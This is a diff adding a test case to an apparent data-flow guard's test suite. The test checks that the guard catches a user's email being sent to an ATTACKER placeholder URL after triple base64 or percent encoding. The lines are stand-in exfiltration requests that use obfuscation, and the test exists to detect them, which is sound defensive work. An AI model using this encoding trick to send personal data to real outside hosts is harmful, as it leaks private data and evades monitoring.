@@ -79,4 +79,9 @@ describe("guard with flow tracking on disguised values", () => {
     expect(await send({ phone: "+1 415 555 2671" }, search)).not.toContain(FLOW);
     expect(await send({ phone: "+1 415 555 2671" }, { url: `https://search.example/?q=${encodeURIComponent("call +1 (415) 555-2671")}` })).toContain(FLOW);
   });
+
+  it("sees an email base64- or percent-encoded three times", async () => {
+    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${b64u(b64u(b64u(EMAIL)))}` })).toContain(FLOW);
+    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${encodeURIComponent(encodeURIComponent(encodeURIComponent(EMAIL)))}` })).toContain(FLOW);
+  });
 });
